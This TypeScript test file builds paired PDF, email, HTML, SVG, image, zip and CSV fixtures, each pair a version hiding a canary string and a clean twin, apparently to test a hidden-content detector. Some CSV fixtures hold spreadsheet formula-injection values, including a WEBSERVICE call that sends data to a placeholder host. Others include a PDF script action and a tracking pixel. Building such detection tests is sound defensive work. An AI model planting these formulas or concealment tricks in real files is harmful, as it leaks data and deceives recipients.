// Pairs of PDFs, mails, pages, drawings and pictures as other programs make them: each hides one thing, and its twin does not.
import { deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { aPdf, line, type PdfPlan } from '../../test/twins/pdf.ts'
import { eachToldApart, type Pair } from '../../test/twins/told-apart.ts'

const CANARY = 'Canary Nightjar'
const PAGE = 'page 1'
const stream = (content: string, about = '') =>
  `<< ${about} /Length ${content.length} >>\nstream\n${content}\nendstream`
type Told = [carrier: string | RegExp, part: string | RegExp]
const pdf = (told: Told, dirty: PdfPlan, clean: PdfPlan = {}): Pair => [
  'pdf',
  ...told,
  aPdf(dirty),
  aPdf(clean),
]
const words = (ending: string, told: Told, dirty: string, clean: string): Pair => [
  ending,
  ...told,
  new Uint8Array(Buffer.from(dirty, 'latin1')),
  new Uint8Array(Buffer.from(clean, 'latin1')),
]
const resources = (more: string) => `/Resources << /Font << /F1 5 0 R >> ${more} >>`
const FORM = (content: string) =>
  stream(
    content,
    '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>',
  )
const SQUARE = (fill: string) =>
  `<< /Type /Annot /Subtype /Square /Rect [60 590 360 620] /F 4 ${fill} /AP << /N 7 0 R >> >>`
const PICTURE = (about = '') =>
  stream(
    '\x40',
    `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray ${about}`,
  )

const PDFS: Pair[] = [
  // Signs that tell nothing are lost on many pages: a filling of dashes, a stop that ran out of its ink.
  pdf(
    ['white-text', PAGE],
    { after: line(CANARY, { form: '1 g' }) },
    { after: line('- ... -', { form: '1 g' }) },
  ),
  pdf(
    ['text-under-box', PAGE],
    { after: `${line(CANARY)} q 1 g 60 590 300 30 re f Q` },
    { after: `q 0.9 g 60 590 300 30 re f Q ${line(CANARY)}` },
  ),
  pdf(
    ['text-under-box', PAGE],
    {
      after: `${line(CANARY)} /Fx Do`,
      page: resources('/XObject << /Fx 6 0 R >>'),
      more: [FORM('0 g 60 590 300 30 re f')],
    },
    {
      after: `/Fx Do 1 g ${line(CANARY)}`,
      page: resources('/XObject << /Fx 6 0 R >>'),
      more: [FORM('0 g 60 590 300 30 re f')],
    },
  ),
  pdf(
    ['text-under-box', PAGE],
    { after: `${line(CANARY)} 0 G 30 w 60 604 m 360 604 l S` },
    { after: `${line(CANARY)} 0 G 1 w 60 596 m 360 596 l S` },
  ),
  pdf(
    ['text-under-box', PAGE],
    {
      after: line(CANARY),
      page: '/Annots [6 0 R]',
      more: [
        SQUARE('/IC [0 0 0]'),
        stream('0 g 60 590 300 30 re f', '/Type /XObject /Subtype /Form /BBox [60 590 360 620]'),
      ],
    },
    {
      after: line(CANARY),
      page: '/Annots [6 0 R]',
      more: [
        SQUARE(''),
        stream(
          '1 0 0 RG 61 591 298 28 re S',
          '/Type /XObject /Subtype /Form /BBox [60 590 360 620]',
        ),
      ],
    },
  ),
  pdf(
    ['text-under-box', PAGE],
    {
      after: line(CANARY),
      page: '/Annots [6 0 R]',
      more: [
        SQUARE('/IC [1 1 1]'),
        stream('1 g 60 590 300 30 re f', '/Type /XObject /Subtype /Form /BBox [60 590 360 620]'),
      ],
    },
    {
      after: line(CANARY),
      page: '/Annots [6 0 R]',
      more: [
        SQUARE(''),
        stream(
          '0 0 1 RG 61 591 298 28 re S',
          '/Type /XObject /Subtype /Form /BBox [60 590 360 620]',
        ),
      ],
    },
  ),
  pdf(
    ['text-under-box', PAGE],
    { after: `${line(CANARY)} q 0.2 0.2 0.2 rg 60 590 150 30 re f 210 590 150 30 re f Q` },
    { after: `q 0.2 0.2 0.2 rg 60 590 150 30 re f 210 590 150 30 re f Q` },
  ),
  pdf(
    ['text-under-picture', PAGE],
    {
      after: `${line(CANARY)} q 300 0 0 30 60 590 cm /Im Do Q`,
      page: resources('/XObject << /Im 6 0 R >>'),
      more: [PICTURE()],
    },
    {
      after: `q 300 0 0 30 60 590 cm /Im Do Q 1 g ${line(CANARY)}`,
      page: resources('/XObject << /Im 6 0 R >>'),
      more: [PICTURE()],
    },
  ),
  pdf(
    [/invisible-text|white-text/, PAGE],
    { after: `/G0 gs ${line(CANARY)}`, page: resources('/ExtGState << /G0 << /ca 0 >> >>') },
    { after: `/G0 gs ${line(CANARY)}`, page: resources('/ExtGState << /G0 << /ca 0.6 >> >>') },
  ),
  pdf(
    ['invisible-text', PAGE],
    { after: `q ${line(CANARY, { form: '7 Tr' })} Q` },
    { after: `q ${line(CANARY, { form: '2 Tr' })} Q` },
  ),
  pdf(
    [/white-text|invisible-text|text-under-box/, PAGE],
    { after: `q 0 0 5 5 re W n ${line(CANARY)} Q` },
    { after: `q 0 0 500 800 re W n ${line(CANARY)} Q` },
  ),
  pdf(
    ['white-text', PAGE],
    { after: `0 0 0 0 k ${line(CANARY)}` },
    { after: `0 0 0 1 k ${line(CANARY)}` },
  ),
  pdf(
    ['white-text', PAGE],
    {
      after: `/Cs cs 1 1 1 sc ${line(CANARY)}`,
      page: resources('/ColorSpace << /Cs /DeviceRGB >>'),
    },
    {
      after: `/Cs cs 0 0 1 sc ${line(CANARY)}`,
      page: resources('/ColorSpace << /Cs /DeviceRGB >>'),
    },
  ),
  pdf(
    ['tiny-text', PAGE],
    { after: `BT 0.08 0 0 0.08 72 600 Tm /F1 12 Tf (${CANARY}) Tj ET` },
    { after: `BT 0.8 0 0 0.8 72 600 Tm /F1 12 Tf (${CANARY}) Tj ET` },
  ),
  pdf(
    ['off-page-text', PAGE],
    { after: line(CANARY, { at: '72 -40' }) },
    { after: line(CANARY, { at: '72 40' }) },
  ),
  pdf(
    ['off-page-text', PAGE],
    { after: line(CANARY, { at: '72 900' }), page: '/Rotate 90' },
    { after: line(CANARY, { at: '72 600' }), page: '/Rotate 90' },
  ),
  pdf(
    ['hidden-layer', /./],
    {
      catalog: '/OCProperties << /OCGs [6 0 R] /D << /BaseState /OFF /ON [] >> >>',
      page: resources('/Properties << /M 6 0 R >>'),
      after: `/OC /M BDC ${line(CANARY)} EMC`,
      more: ['<< /Type /OCG /Name (Notes) >>'],
    },
    {
      catalog: '/OCProperties << /OCGs [6 0 R] /D << /Order [6 0 R] >> >>',
      page: resources('/Properties << /M 6 0 R >>'),
      after: `/OC /M BDC ${line(CANARY)} EMC`,
      more: ['<< /Type /OCG /Name (Notes) >>'],
    },
  ),
  pdf(['annotation', /object|page/], {
    page: '/Annots [6 0 R]',
    more: [
      `<< /Type /Annot /Subtype /FreeText /Rect [0 0 9 9] /F 2 /DA (/F1 9 Tf) /Contents (${CANARY}) >>`,
    ],
  }),
  pdf(
    ['annotation', /object|page/],
    {
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Highlight /Rect [70 695 200 715] /QuadPoints [70 715 200 715 70 695 200 695] /Popup 7 0 R /Contents (${CANARY}) >>`,
        '<< /Type /Annot /Subtype /Popup /Rect [0 0 9 9] /Parent 6 0 R >>',
      ],
    },
    {
      page: '/Annots [6 0 R]',
      more: [
        '<< /Type /Annot /Subtype /Highlight /Rect [70 695 200 715] /QuadPoints [70 715 200 715 70 695 200 695] >>',
      ],
    },
  ),
  pdf(['attachment', /object|page/], {
    page: '/Annots [6 0 R]',
    more: [
      '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>',
      '<< /Type /Filespec /F (who.txt) /EF << /F 8 0 R >> >>',
      stream(CANARY, '/Type /EmbeddedFile'),
    ],
  }),
  pdf(
    ['form-field', /object|page/],
    {
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /F 2 /FT /Tx /T (who) /V (${CANARY}) /Rect [0 0 9 9] >>`,
      ],
    },
    {
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      more: ['<< /Type /Annot /Subtype /Widget /FT /Tx /T (who) /Rect [0 0 9 9] >>'],
    },
  ),
  pdf(
    ['form-field', /object|page/],
    {
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      more: [`<< /FT /Ch /T (who) /Opt [(x) (${CANARY})] >>`],
    },
    { catalog: '/AcroForm << /Fields [6 0 R] >>', more: ['<< /FT /Btn /T (who) >>'] },
  ),
  pdf(['script', /object|page/], {
    catalog: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
    more: [`<< /S /JavaScript /JS 7 0 R >>`, stream(`app.alert("${CANARY}")`)],
  }),
  pdf(
    ['actual-text', /object|page/],
    {
      catalog: '/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>',
      more: [
        '<< /Type /StructTreeRoot /K 7 0 R >>',
        `<< /Type /StructElem /S /Figure /P 6 0 R /Alt (${CANARY}) >>`,
      ],
    },
    {
      catalog: '/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>',
      more: ['<< /Type /StructTreeRoot /K 7 0 R >>', '<< /Type /StructElem /S /P /P 6 0 R >>'],
    },
  ),
  pdf(
    [/unreferenced-object|private-data|invisible-text/, /./],
    { page: resources('/XObject << /Old 6 0 R >>'), more: [FORM(line(CANARY))] },
    { page: resources('/XObject << /Old 6 0 R >>'), after: '/Old Do', more: [FORM(line(CANARY))] },
  ),
  pdf(
    [/unreferenced-object|private-data|earlier|markup-comment/, /./],
    { after: `% ${CANARY} was here` },
    { after: 'q Q' },
  ),
  pdf(['unreferenced-object', /object|page/], { more: [`<< /Who (${CANARY}) >>`] }, {}),
  pdf(
    ['unreferenced-object', /object|page/],
    {
      more: [
        ((raw: Buffer) =>
          `<< /Type /Other /Filter /FlateDecode /Length ${raw.length} >>\nstream\n${raw.toString('latin1')}\nendstream`)(
          deflateSync(Buffer.from(CANARY)),
        ),
      ],
    },
    {},
  ),
  pdf(['bytes-before', 'leading'], {}, {}),
  pdf(
    ['larger-picture', /page/],
    {
      after: 'q 0 0 20 20 re W n 300 0 0 300 0 0 cm /Im Do Q',
      page: resources('/XObject << /Im 6 0 R >>'),
      more: [PICTURE()],
    },
    {
      after: 'q 0 0 300 300 re W n 300 0 0 300 0 0 cm /Im Do Q',
      page: resources('/XObject << /Im 6 0 R >>'),
      more: [PICTURE()],
    },
  ),
  pdf(
    ['document-properties', 'Info'],
    {
      trailer: '/Info 6 0 R',
      more: [`<< /Keywords <FEFF${Buffer.from(CANARY, 'utf16le').swap16().toString('hex')}> >>`],
    },
    { trailer: '/Info 6 0 R', more: ['<< /Producer (LibreOffice 7.4) /Creator (Writer) >>'] },
  ),
].map(
  (pair) =>
    (pair[1] === 'bytes-before'
      ? [
          'pdf',
          'bytes-before',
          'leading',
          new Uint8Array(Buffer.concat([Buffer.from(`${CANARY}\n`), pair[4]])),
          pair[4],
        ]
      : pair) as Pair,
)

const mail = (type: string, body: string, head = '') =>
  `From: FOI Team <foi@example.org>\r\nTo: Ada <a@example.org>\r\nSubject: Your request\r\nDate: Fri, 1 Mar 2024 09:00:00 +0000\r\nMessage-ID: <abc@example.org>\r\n${head}MIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n${body}`
const two = (plain: string, page: string, more = '') =>
  mail(
    'multipart/alternative; boundary="=_b"',
    `--=_b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(plain).toString('base64')}\r\n--=_b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${page.replaceAll('=', '=3D')}\r\n--=_b--\r\n${more}`,
  )
const SAID =
  'Dear Ada,\n\nWe recorded 12 cases in 2023. See https://www.example.org/data\n\nYours sincerely\nFOI Team'
const SAID_PAGE =
  '<html><head><style>p{margin:0}</style></head><body><p>Dear&nbsp;Ada,</p><p>We recorded <b>12</b> cases in 2023. See <a href="https://www.example.org/data">https://www.example.org/data</a></p><p>Yours sincerely<br>FOI Team</p></body></html>'
const mixed = (part: string) =>
  mail(
    'multipart/mixed; boundary=m',
    `--m\r\nContent-Type: text/plain\r\n\r\nTwelve cases.\r\n--m\r\n${part}\r\n--m--\r\n`,
  )

const MAILS: Pair[] = [
  words(
    'eml',
    ['other-alternative', /part/],
    two(`${SAID}\n${CANARY}`, SAID_PAGE),
    two(SAID, SAID_PAGE),
  ),
  words(
    'eml',
    ['other-alternative', /part/],
    two(SAID, SAID_PAGE.replace('</body>', `<p>${CANARY}</p></body>`)),
    two(`${SAID.replace('12', '*12*')}\n\n`, SAID_PAGE),
  ),
  words(
    'eml',
    ['other-alternative', /part/],
    two(SAID, SAID_PAGE.replace('12', '13')),
    two(SAID.replace('See https', 'See <https').replace('/data\n', '/data>\n'), SAID_PAGE),
  ),
  words(
    'eml',
    ['hidden-markup', /part/],
    two(
      SAID,
      SAID_PAGE.replace(
        '</body>',
        `<div style="font-size:0;max-height:0;overflow:hidden">${CANARY}</div></body>`,
      ),
    ),
    two(SAID, SAID_PAGE),
  ),
  words(
    'eml',
    [/markup-comment|hidden-markup/, /part/],
    two(SAID, SAID_PAGE.replace('</body>', `<!-- ${CANARY} --></body>`)),
    two(SAID, SAID_PAGE),
  ),
  words(
    'eml',
    ['tracking-picture', /part/],
    two(
      SAID,
      SAID_PAGE.replace(
        '</body>',
        '<img src="https://t.example.org/o.gif?u=7" style="width:1px;height:1px"></body>',
      ),
    ),
    two(SAID, SAID_PAGE),
  ),
  words(
    'eml',
    ['blind-copy', 'head'],
    mail('text/plain', 'Twelve.', `Bcc: ${CANARY} <x@example.org>\r\n`),
    mail('text/plain', 'Twelve.', 'Reply-To: foi@example.org\r\n'),
  ),
  words(
    'eml',
    ['sender-machine', 'head'],
    mail('text/plain', 'Twelve.', 'Received: from PC-JANE ([10.2.3.4]) by mail.example.org\r\n'),
    mail('text/plain', 'Twelve.', 'X-Priority: 3\r\n'),
  ),
  words(
    'eml',
    ['quoted-thread', /part/],
    mail(
      'text/plain',
      `Twelve.\r\n\r\n________________________________\r\nFrom: ${CANARY}\r\nSent: 1 March 2024 09:00\r\nTo: FOI\r\nSubject: RE\r\n\r\nWho?`,
    ),
    mail('text/plain', 'Twelve.'),
  ),
  words(
    'eml',
    ['quoted-thread', /part/],
    two(
      SAID,
      SAID_PAGE.replace(
        '</body>',
        `<div class="gmail_quote"><div>On Fri ${CANARY} wrote:</div></div></body>`,
      ),
    ),
    two(SAID, SAID_PAGE),
  ),
  words(
    'eml',
    ['attachment-carries', /note/],
    mixed(
      `Content-Type: message/rfc822; name="note.eml"\r\nContent-Disposition: attachment; filename="note.eml"\r\n\r\n${mail('text/plain', 'x', `Bcc: ${CANARY} <x@example.org>\r\n`)}`,
    ),
    mixed(
      `Content-Type: message/rfc822; name="note.eml"\r\nContent-Disposition: attachment; filename="note.eml"\r\n\r\n${mail('text/plain', 'x')}`,
    ),
  ),
  words(
    'eml',
    ['attachment-carries', /page/],
    mixed(
      `Content-Type: text/html; name="page.html"\r\nContent-Disposition: attachment; filename="page.html"\r\n\r\n<p>x<!-- ${CANARY} --></p>`,
    ),
    mixed(
      'Content-Type: text/html; name="page.html"\r\nContent-Disposition: attachment; filename="page.html"\r\n\r\n<p>x</p>',
    ),
  ),
]

const page = (inside: string, head = '') =>
  `<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Reply</title>${head}</head><body><h1>Reply</h1><p>Twelve cases</p>${inside}</body></html>`
const svg = (inside: string) =>
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 90 30"><text x="2" y="20">12</text>${inside}</svg>`

const MARKUP: Pair[] = [
  ...(
    [
      [
        `<div style="visibility: hidden">${CANARY}</div>`,
        '<div style="visibility: visible">x</div>',
      ],
      [`<div style="opacity:0">${CANARY}</div>`, '<div style="opacity:0.8">x</div>'],
      [`<div style="font-size:0px">${CANARY}</div>`, '<div style="font-size:9px">x</div>'],
      [
        `<div style="height:0;overflow:hidden">${CANARY}</div>`,
        '<div style="height:2em;overflow:hidden">x</div>',
      ],
      [`<div style="text-indent:-9999px">${CANARY}</div>`, '<div style="text-indent:2em">x</div>'],
      [`<div style="clip-path:inset(100%)">${CANARY}</div>`, '<div>x</div>'],
      [`<div style="transform:scale(0)">${CANARY}</div>`, '<div style="transform:none">x</div>'],
      [`<template>${CANARY}</template>`, '<p>x</p>'],
      [`<noscript>${CANARY}</noscript>`, '<p>x</p>'],
      [`<p title="${CANARY}">x</p>`, '<p aria-label="Twelve cases in all">x</p>'],
      [`<p title="${CANARY}">x</p>`, '<p title="Twelve cases">x</p>'],
    ] as const
  ).map(([dirty, clean]) =>
    words(
      'html',
      [/hidden-markup|data-attribute|alternative-text/, 'html'],
      page(dirty),
      page(clean),
    ),
  ),
  words(
    'html',
    ['white-text', 'html'],
    page(`<p class="a">${CANARY}</p>`, '<style>.a { color : white }</style>'),
    page('<p class="a">x</p>', '<style>.a { color : black }</style>'),
  ),
  words(
    'html',
    ['white-text', 'html'],
    page(`<p><font color="#FFFFFF">${CANARY}</font></p>`),
    page('<p><font color="#000080">x</font></p>'),
  ),
  words(
    'html',
    ['inline-data', 'html'],
    page(`<script>window.data = ["${CANARY}"]</script>`),
    page(''),
  ),
  words(
    'html',
    ['inline-data', 'html'],
    page(`<script type="application/ld+json">{"author":"${CANARY}"}</script>`),
    page(''),
  ),
  words(
    'html',
    ['inline-data', 'html'],
    page(`<a href="data:text/plain;base64,${Buffer.from(CANARY).toString('base64')}">x</a>`),
    page('<a href="https://example.org/">x</a>'),
  ),
  words(
    'html',
    ['hidden-field', 'html'],
    page(`<form><input type="HIDDEN" name="n" value="${CANARY}"></form>`),
    page(''),
  ),
  words(
    'html',
    ['metadata', 'html'],
    page('', `<meta property="og:author" content="${CANARY}">`),
    page('', '<meta name="generator" content="LibreOffice 7.4">'),
  ),
  words('svg', [/metadata|hidden-markup/, 'svg'], svg(`<desc>${CANARY}</desc>`), svg('')),
  words(
    'svg',
    ['hidden-markup', 'svg'],
    svg(`<defs><text>${CANARY}</text></defs>`),
    svg('<defs><clipPath id="a"><path d="M0 0"/></clipPath></defs>'),
  ),
  words(
    'svg',
    ['hidden-markup', 'svg'],
    svg(`<text x="500" y="20">${CANARY}</text>`),
    svg('<text x="20" y="20">x</text>'),
  ),
  words(
    'svg',
    [/hidden-markup|white-text/, 'svg'],
    svg(`<text fill="white" x="2" y="9">${CANARY}</text>`),
    svg('<text fill="navy" x="2" y="9">x</text>'),
  ),
  words(
    'svg',
    ['hidden-markup', 'svg'],
    svg(`<text opacity="0" x="2" y="9">${CANARY}</text>`),
    svg('<text opacity="0.9" x="2" y="9">x</text>'),
  ),
  words(
    'svg',
    ['hidden-markup', 'svg'],
    svg(`<text style="visibility:hidden" x="2" y="9">${CANARY}</text>`),
    svg('<text style="visibility:visible" x="2" y="9">x</text>'),
  ),
]

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)
function withChunk(type: string, content: Buffer): Uint8Array {
  const head = Buffer.alloc(4)
  head.writeUInt32BE(content.length)
  return new Uint8Array(
    Buffer.concat([
      PNG.subarray(0, 33),
      head,
      Buffer.from(type),
      content,
      Buffer.alloc(4),
      PNG.subarray(33),
    ]),
  )
}
const exif = (words_: string) => {
  const text = Buffer.from(`${words_}\0`)
  const body = Buffer.alloc(26)
  body.write('II*\0', 'latin1')
  body.writeUInt32LE(8, 4)
  body.writeUInt16LE(1, 8)
  body.writeUInt16LE(0x10e, 10)
  body.writeUInt16LE(2, 12)
  body.writeUInt32LE(text.length, 14)
  body.writeUInt32LE(26, 18)
  return Buffer.concat([body, text])
}
function jpeg(segment: Buffer = Buffer.alloc(0), end = ''): Uint8Array {
  return new Uint8Array(
    Buffer.concat([
      Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
      segment,
      Buffer.from('ffda0004000012ffd9', 'hex'),
      Buffer.from(end),
    ]),
  )
}
const app = (n: number, content: Buffer) => {
  const head = Buffer.from([0xff, 0xe0 + n, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([head, content])
}
const plain = new Uint8Array(PNG)
const table = strToU8('Year,Cases\r\n2023,12\r\n')

const PICTURES: Pair[] = [
  [
    'png',
    'picture-metadata',
    /./,
    withChunk(
      'zTXt',
      Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.from(CANARY))]),
    ),
    plain,
  ],
  [
    'png',
    'picture-metadata',
    /./,
    withChunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0<x>${CANARY}</x>`)),
    plain,
  ],
  [
    'png',
    'picture-metadata',
    /./,
    withChunk('eXIf', exif(CANARY)),
    withChunk('sRGB', Buffer.from([0])),
  ],
  [
    'png',
    'picture-metadata',
    /./,
    withChunk('caNv', Buffer.from(CANARY)),
    withChunk('gAMA', Buffer.from([0, 0, 0xb1, 0x8f])),
  ],
  [
    'jpg',
    'picture-metadata',
    /./,
    jpeg(app(1, Buffer.concat([Buffer.from('Exif\0\0'), exif(CANARY)]))),
    jpeg(app(2, Buffer.from('ICC_PROFILE\0\x01\x01'))),
  ],
  [
    'jpg',
    'picture-metadata',
    /./,
    jpeg(app(1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x>${CANARY}</x>`))),
    jpeg(),
  ],
  [
    'jpg',
    'picture-metadata',
    /./,
    jpeg(app(13, Buffer.from(`Photoshop 3.0\x008BIM${CANARY}`))),
    jpeg(),
  ],
  ['jpg', 'bytes-after', /./, jpeg(undefined, CANARY), jpeg(undefined, '')],
  [
    'zip',
    'member-carries',
    /b\.png/,
    zipSync({ 'a/b.png': withChunk('tEXt', Buffer.from(`Author\0${CANARY}`)) }),
    zipSync({ 'a/b.png': plain }),
  ],
  [
    'zip',
    /archive-comment|member-carries/,
    /./,
    zipSync({ 'a.csv': [table, { comment: CANARY }] }),
    zipSync({ 'a.csv': table }),
  ],
  [
    'zip',
    'member-carries',
    /./,
    zipSync({
      'in.zip': zipSync({
        'deep.zip': zipSync({
          'a.csv': strToU8(`Year,Cases\r\n2023,12\r\n2024,9,,,${CANARY}\r\n`),
        }),
      }),
    }),
    zipSync({ 'in.zip': zipSync({ 'deep.zip': zipSync({ 'a.csv': table }) }) }),
  ],
]

const csv = (told: Told, dirty: string, clean: string): Pair => [
  'csv',
  ...told,
  strToU8(dirty),
  strToU8(clean),
]
const ROWS = 'Year;Cases;Force\n2022;4;Kent\n2023;12;Essex\n'
const TABLES: Pair[] = [
  csv(['wider-row', /line 3/], ROWS.replace('Essex', `Essex;;;;${CANARY}`), ROWS),
  csv(
    ['far-row', /line/],
    `${ROWS}${';;\n'.repeat(60)}${CANARY};1;x\n`,
    `${ROWS}\nSource: police\n`,
  ),
  csv(
    ['padded-field', /line/],
    ROWS.replace('Essex', `Essex${' '.repeat(200)}${CANARY}`),
    ROWS.replace('Essex', 'Essex  '),
  ),
  csv(
    ['padded-field', /line/],
    ROWS.replace('Essex', `"Essex${'\n'.repeat(40)}${CANARY}"`),
    ROWS.replace('Essex', '"Essex\nPolice"'),
  ),
  csv(['control-characters', /line/], ROWS.replace('Essex', `Essex\b\b\b\b\b${CANARY}`), ROWS),
  csv(
    ['control-characters', /line/],
    ROWS.replace('Essex', `Essex\u200b${CANARY}`),
    ROWS.replace('Essex', 'Ess\u00e9x'),
  ),
  csv(
    ['formula', /line/],
    ROWS.replace('Essex', `"=WEBSERVICE(""http://x/${CANARY}"")"`),
    ROWS.replace('12', '-12.5'),
  ),
  csv(
    ['formula', /line/],
    ROWS.replace('Essex', '@SUM(1+1)*cmd'),
    ROWS.replace('Essex', 'foi@example.org'),
  ),
]

const ALL = { pdf: PDFS, mail: MAILS, markup: MARKUP, picture: PICTURES, table: TABLES }
for (const [kind, pairs] of Object.entries(ALL)) eachToldApart(pairs, `${kind} `)
